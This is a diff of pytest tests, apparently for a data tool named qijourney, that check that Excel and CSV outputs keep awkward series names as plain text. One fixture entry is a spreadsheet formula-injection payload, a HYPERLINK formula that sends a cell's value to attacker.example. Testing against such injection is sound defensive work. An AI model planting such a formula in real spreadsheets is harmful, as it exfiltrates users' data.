@@ -216,3 +216,67 @@ def test_example_command_writes_the_table(tmp_path):
     assert result.returncode == 0
     assert (tmp_path / "wards.csv").read_bytes() == EXAMPLE.read_bytes()
     assert "qijourney spc" in result.stdout
+
+
+# Series names and notes as people type them: like formulas, an error value, a vertical tab.
+AWKWARD = [
+    '=HYPERLINK("https://attacker.example/?d="&E2,"Click to verify")',
+    "+44 ward",
+    "-5 beds",
+    "@ward",
+    "#REF!",
+    "Ward\x0b4",
+]
+
+
+@pytest.fixture
+def awkward_input(tmp_path):
+    months = pd.date_range("2024-01-01", periods=15, freq="MS")
+    frame = pd.DataFrame(
+        {
+            "ward": [name for name in AWKWARD for _ in months],
+            "month": list(months) * len(AWKWARD),
+            "value": [float(i % 7) for i in range(len(AWKWARD) * len(months))],
+            "note": ["=1+1" if i % 15 == 3 else "" for i in range(len(AWKWARD) * len(months))],
+        }
+    )
+    source = tmp_path / "awkward.csv"
+    frame.to_csv(source, index=False)
+    return source
+
+
+def spc_awkward(source, summary, points):
+    options = ["--value", "value", "--date", "month", "--series", "ward"]
+    options += ["--annotation-column", "note", "--summary-out", summary, "--points-out", points]
+    result = qijourney("spc", source, *options)
+    assert result.returncode == 0, result.stderr
+
+
+def test_excel_outputs_keep_text_as_text(awkward_input, tmp_path):
+    from tests.workbook import filled_cells, run_on_opening
+
+    summary, points = tmp_path / "summary.xlsx", tmp_path / "points.xlsx"
+    spc_awkward(awkward_input, summary, points)
+    shown = [name.replace("\x0b", "\ufffd") for name in AWKWARD]  # Excel cannot hold \x0b
+    for path in (summary, points):
+        cells = filled_cells(path)
+        assert run_on_opening(cells) == []
+        header = {c.value: c.column for c in cells if c.row == 1}
+        column = [c for c in cells if c.column == header["ward"] and c.row > 1]
+        assert {c.value for c in column} == set(shown)
+        assert all(c.data_type == "s" for c in column)
+    assert [c.value for c in filled_cells(points) if c.value == "=1+1"] == ["=1+1"] * 6
+    table = pd.read_excel(summary)
+    assert list(table["ward"]) == shown and table["latest_date"].iloc[0] == pd.Timestamp(
+        "2025-03-01"
+    )
+    assert table["n"].tolist() == [15] * 6 and table["centre"].dtype == float
+
+
+def test_csv_outputs_keep_an_analysts_values_exactly(awkward_input, tmp_path):
+    summary, points = tmp_path / "summary.csv", tmp_path / "points.csv"
+    spc_awkward(awkward_input, summary, points)
+    table = pd.read_csv(summary, keep_default_na=False)
+    assert list(table["ward"]) == AWKWARD  # no quote added, nothing replaced
+    notes = pd.read_csv(points, keep_default_na=False)["annotation"]
+    assert (notes == "=1+1").sum() == 6
